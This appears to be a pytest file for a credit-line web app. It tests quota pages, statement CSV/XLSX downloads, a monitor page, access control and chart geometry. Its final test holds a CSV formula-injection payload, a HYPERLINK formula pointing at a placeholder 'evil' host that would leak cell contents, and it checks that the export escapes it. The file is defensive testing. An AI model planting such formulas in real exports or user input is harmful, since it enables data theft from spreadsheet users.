"""The holder's quota detail pages (issue 14, part A) through TestClient on SQLite and
PostgreSQL: the quota page's used amount, exposure table and 90-day chart; statements with a
period picker, an empty state, bad dates and CSV/XLSX downloads; the daily quota monitor and
its XLSX; zh by default and en on request; another holder's line is a 404, an operator reads
any; and the chart geometry on plain values."""

from __future__ import annotations

import io
import re
from decimal import Decimal

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook  # type: ignore[import-untyped]

import creditline
from creditline.adapters.db.database import SqlDatabase
from creditline.entrypoints.api.app import create_app
from creditline.entrypoints.bootstrap import password_hasher
from creditline.entrypoints.pages.charts import Band, Series, line_chart, nice_ceiling
from tests.api_helpers import World, make_world

CSRF = re.compile(r'name="csrf" value="([^"]+)"')
PASSWORD = "correct horse battery"


@pytest.fixture
def world(db: SqlDatabase) -> World:
    return make_world(db)


def _client(world: World, **fields: str) -> TestClient:
    """A browser signed in with ``fields`` (a holder's key, or an operator's name/password)."""
    client = TestClient(create_app(world.db, log_requests=False), follow_redirects=False)
    found = CSRF.search(client.get("/signin").text)
    assert found is not None
    done: httpx.Response = client.post("/signin", data={"csrf": found.group(1), **fields})
    assert done.status_code == 303, done.text
    return client


def _spend(world: World, order: str, amount: str, *, capture: bool = True) -> None:
    line = world.lines["alice"]
    hold = creditline.authorize(
        world.db, line, amount=amount, purpose="procurement", key=f"a-{order}", order=order
    ).body
    if capture:
        creditline.capture(world.db, hold["id"], amount=None, key=f"c-{order}")


def _section(html: str, element_id: str) -> str:
    """The element with ``element_id`` up to its closing tag (tables and svg here)."""
    found = re.search(rf'<(\w+)[^>]*\bid="{element_id}"[^>]*>.*?</\1>', html, re.DOTALL)
    assert found is not None, element_id
    return found.group(0)


def test_the_quota_page_lists_the_oldest_orders_a_page_at_a_time(world: World) -> None:
    """25 open orders: the page names the oldest 20, says how many there are, and its next
    link lists the other 5; a cursor that names no open order shows the first page."""
    line = world.lines["alice"]
    for i in range(25):
        _spend(world, f"PO{i:02d}", "10.00")
        creditline.advance_clock(world.db, "1h")
    client = _client(world, key=world.keys["alice"])

    def orders(html: str) -> list[str]:
        return re.findall(r'<tr class="occupancy[^"]*"[^>]*>\s*<th scope="row">(\w+)</th>', html)

    first = client.get(f"/lines/{line}").text
    assert orders(first) == [f"PO{i:02d}" for i in range(20)]
    assert "共 25 笔订单占用额度，此处显示 20 笔（最早的在前）。" in first
    found = re.search(r'<a rel="next" href="\?orders_after=(\w+)#exposure-title">', first)
    assert found is not None
    rest = client.get(f"/lines/{line}?orders_after={found.group(1)}").text
    assert orders(rest) == [f"PO{i:02d}" for i in range(20, 25)]
    assert 'rel="next"' not in rest
    assert "回到最早的订单" in rest
    assert orders(client.get(f"/lines/{line}?orders_after=occ_gone").text) == orders(first)


def test_the_quota_page_shows_used_exposure_by_order_and_the_90_day_chart(world: World) -> None:
    line = world.lines["alice"]
    _spend(world, "PO1", "3000.00")
    creditline.advance_clock(world.db, "28d")
    _spend(world, "PO2", "1000.00", capture=False)
    creditline.add_freeze(world.db, line, reason="risk", note="核查", key="f1")
    client = _client(world, key=world.keys["alice"])
    html = client.get(f"/lines/{line}").text
    assert "已用额度" in html
    assert "已用额度 = 预占 + 占用。" in html
    assert "¥4,000.00" in html  # used: 1,000.00 held + 3,000.00 occupied
    table = _section(html, "exposure")
    rows = re.findall(r"<tr class=\"([^\"]+)\"[^>]*>\s*<th scope=\"row\">(\w+)</th>", table)
    assert rows == [("occupancy urgent", "PO1"), ("hold", "PO2")]
    assert "<strong>2</strong>" in table
    assert "2024-05-31 10:00" in table
    chart = _section(html, "quota-chart")
    assert '<title id="quota-chart-title">近 90 天额度走势</title>' in chart
    assert chart.count('<path class="series') == 3
    assert 'class="band band-freeze"' in chart
    assert "冻结期间: 风控" in chart
    assert 'class="legend"' in html
    assert "<details>" in html
    history = _section(html, "quota-history")
    assert history.count("<tr") == 91  # the header and 90 days
    english = client.get(f"/lines/{line}?lang=en").text
    assert "Holds and occupancy by order" in english
    assert "Quota over the last 90 days" in english
    assert "Frozen: risk control" in english


def test_a_line_without_holds_says_so(world: World) -> None:
    client = _client(world, key=world.keys["alice"])
    html = client.get(f"/lines/{world.lines['alice']}").text
    assert 'id="exposure"' in html
    assert "没有预占或占用" in html


def test_statements_default_to_this_month_and_download_as_csv_and_xlsx(world: World) -> None:
    line = world.lines["alice"]
    _spend(world, "PO1", "3000.00")
    client = _client(world, key=world.keys["alice"])
    html = client.get(f"/lines/{line}/statements").text
    assert 'value="2024-05-01"' in html  # the clock's month, up to today
    assert '<label for="from">开始日期</label>' in html
    assert '<label for="to">结束日期</label>' in html
    table = _section(html, "statement")
    assert list(re.findall(r"<td>(授信|预授权|扣款)</td>", table)) == [
        "授信",
        "预授权",
        "扣款",
    ]
    assert "PO1" in table
    assert "¥97,000.00" in table
    assert "Capture" in client.get(f"/lines/{line}/statements?lang=en").text
    empty = client.get(f"/lines/{line}/statements?from=2024-04-01&to=2024-04-30&lang=zh").text
    assert "这段期间没有额度变动" in empty
    query = "from=2024-05-01&to=2024-05-31"
    csv = client.get(f"/lines/{line}/statements.csv?{query}")
    assert csv.status_code == 200
    assert csv.headers["content-type"] == "text/csv; charset=utf-8"
    name = f"statement-{line}-2024-05-01-2024-05-31"
    assert csv.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
    text = csv.content.decode("utf-8")
    assert text.startswith("\ufeff时间（北京时间）")
    assert "PO1" in text
    xlsx = client.get(f"/lines/{line}/statements.xlsx?{query}")
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert xlsx.headers["content-disposition"] == f'attachment; filename="{name}.xlsx"'
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.title == "对账单"
    assert sheet.max_row == 2 + 3


@pytest.mark.parametrize(
    ("query", "field"),
    [("from=2024-13-01&to=2024-05-02", "from"), ("from=2024-05-02&to=2024-05-01", "to")],
)
def test_bad_statement_dates_are_a_400_naming_the_field(
    world: World, query: str, field: str
) -> None:
    client = _client(world, key=world.keys["alice"])
    for path in ("statements", "statements.csv", "statements.xlsx"):
        bad = client.get(f"/lines/{world.lines['alice']}/{path}?{query}")
        assert bad.status_code == 400
        assert f"({field})" in bad.text
        assert 'aria-invalid="true"' in bad.text


def test_the_monitor_page_and_its_xlsx(world: World) -> None:
    line = world.lines["alice"]
    client = _client(world, key=world.keys["alice"])
    html = client.get(f"/lines/{line}/monitor").text
    table = _section(html, "monitor")
    assert table.count("<tr") == 31
    assert "无流水" in table
    assert "近 90 天没有已结算的回款" in html  # the empty state says when it appears
    chart = _section(html, "quota-chart")
    assert "可用额度与预警线" in chart
    assert chart.count('<path class="series') == 3
    english = client.get(f"/lines/{line}/monitor?days=3&lang=en").text
    assert _section(english, "monitor").count("<tr") == 4
    assert "Keep 20% of your monthly flow available in reserve" in english
    bad = client.get(f"/lines/{line}/monitor?days=0")
    assert bad.status_code == 400
    assert "(days)" in bad.text
    assert client.get(f"/lines/{line}/monitor?days=x").status_code == 400
    xlsx = client.get(f"/lines/{line}/monitor.xlsx?days=3")
    assert xlsx.status_code == 200
    assert (
        xlsx.headers["content-disposition"]
        == f'attachment; filename="monitor-{line}-2024-05-01.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.title == "额度监控表"
    assert sheet.cell(5, 1).value == "2024-05-01"
    assert client.get(f"/lines/{line}/monitor.xlsx?days=999").status_code == 400


def test_the_monitor_shows_levels_lines_and_the_reserve_with_a_flow(world: World) -> None:
    creditline.set_clock(world.db, "2024-09-27T11:00:00+08:00")  # a Friday in the split window
    line = world.lines["alice"]
    creditline.add_order(world.db, world.parties["alice"], order_id="TB1", amount="300000.00")
    creditline.ship_order(world.db, "TB1")
    creditline.confirm_order(world.db, "TB1")
    creditline.run_due(world.db)  # a monthly flow of 100,000.00 against a 100,000.00 line
    _spend(world, "PO1", "60000.00")  # 40,000.00 available: yellow, covers the 20,000.00 reserve
    html = _client(world, key=world.keys["alice"]).get(f"/lines/{line}/monitor?days=2").text
    today = re.search(r'<section class="card today level-(\w+)"', html)
    assert today is not None
    assert today.group(1) == "yellow"
    assert "¥100,000.00" in html
    assert "¥50,000.00" in html
    assert "¥30,000.00" in html
    assert re.search(r'id="reserve"><dt>建议储备</dt><dd>¥20,000.00</dd>', html)
    assert "今日可用额度足以覆盖储备。" in html


def test_another_holders_line_is_a_404_and_an_operator_reads_any(world: World) -> None:
    bobs = world.lines["bob"]
    paths = ["", "/statements", "/statements.csv", "/statements.xlsx", "/monitor", "/monitor.xlsx"]
    anonymous = TestClient(create_app(world.db, log_requests=False), follow_redirects=False)
    alice = _client(world, key=world.keys["alice"])
    for path in paths:
        assert alice.get(f"/lines/{bobs}{path}").status_code == 404
        assert alice.get(f"/lines/line_0000000000000000{path}").status_code == 404
        assert anonymous.get(f"/lines/{bobs}{path}").status_code == 303
    creditline.set_password(world.db, "risk", PASSWORD, hasher=password_hasher())
    risk = _client(world, name="risk", password=PASSWORD)
    for path in paths:
        assert risk.get(f"/lines/{bobs}{path}").status_code == 200


# -- the chart's geometry on plain values --------------------------------------------------------
def test_nice_ceilings_and_a_line_chart_that_breaks_where_there_is_no_value() -> None:
    assert [nice_ceiling(Decimal(v)) for v in ("0", "7", "10", "11", "2100", "96000")] == [
        Decimal(1),
        Decimal(10),
        Decimal(10),
        Decimal(20),
        Decimal(2500),
        Decimal(100000),
    ]
    chart = line_chart(
        ["a", "b", "c", "d", "e"],
        [
            Series("flat", "Flat", ["5.00", "5.00", "5.00", "5.00", "10.00"]),
            Series("gap", "Gap", ["1.00", None, "2.00", "3.00", None], dashed=True),
        ],
        [Band(0, 0, "first"), Band(3, 4, "last")],
        money=lambda d: f"{d:.0f}",
    )
    flat, gap = chart.paths
    assert flat["d"] == "M84.0,130.0 L462.0,130.0 L588.0,12.0"  # the level stretch is one segment
    assert gap["d"].count("M") == 2
    assert gap["dashed"] is True
    first, last = chart.bands
    assert first["x"] == "84.0"
    assert last["x"] == "399.0"
    assert Decimal(last["x"]) + Decimal(last["width"]) == Decimal(chart.right)  # clipped
    assert [tick["label"] for tick in chart.y_ticks] == ["0", "2", "5", "8", "10"]
    assert [tick["label"] for tick in chart.x_ticks] == ["a", "b", "c", "d", "e"]
    single = line_chart(["x"], [Series("one", "One", ["3.00"])])
    assert single.paths[0]["d"] == "M336.0,106.4"


def test_a_formula_in_an_order_id_is_text_in_the_statement_downloads() -> None:
    """CSV injection: an order id a holder chose that starts like a formula stays text."""
    from creditline.adapters.spreadsheets import statement_csv, statement_xlsx_bytes

    row = dict.fromkeys(("time_local", "type_zh", "type", "flow", "from_account"))
    row |= {"order": '=HYPERLINK("http://evil/"&A1,"x")', "to_account": "@SUM(1)"}
    row |= dict.fromkeys(("amount", "available", "held", "occupied", "frozen"), "-10.00")
    row["fees_due"] = "0.00"
    text = statement_csv([row])
    assert "'=HYPERLINK" in text
    assert "'@SUM(1)" in text
    assert ",-10.00," in text  # amounts are numbers, never prefixed
    import io

    from openpyxl import load_workbook  # type: ignore[import-untyped]

    body = {"line": "line_x", "from": "2024-05-01", "to": "2024-05-31", "currency": "CNY"}
    book = load_workbook(io.BytesIO(statement_xlsx_bytes(body | {"rows": [row]})))
    cells = [c for c in book.active[3] if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert '\'=HYPERLINK("http://evil/"&A1,"x")' in [c.value for c in cells]
